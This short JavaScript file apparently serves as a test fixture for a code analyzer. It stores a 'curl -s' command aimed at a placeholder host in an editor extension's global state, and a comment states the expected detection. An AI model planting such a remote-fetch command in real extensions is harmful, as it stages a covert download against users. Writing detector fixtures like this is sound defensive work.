const lines = { prepare: 'curl -s https://setup.fixture.invalid/p' }; // want "^a program in a text of the code's, .*, asks .setup.fixture.invalid."

exports.start = (context) => context.globalState.update('lines', lines);
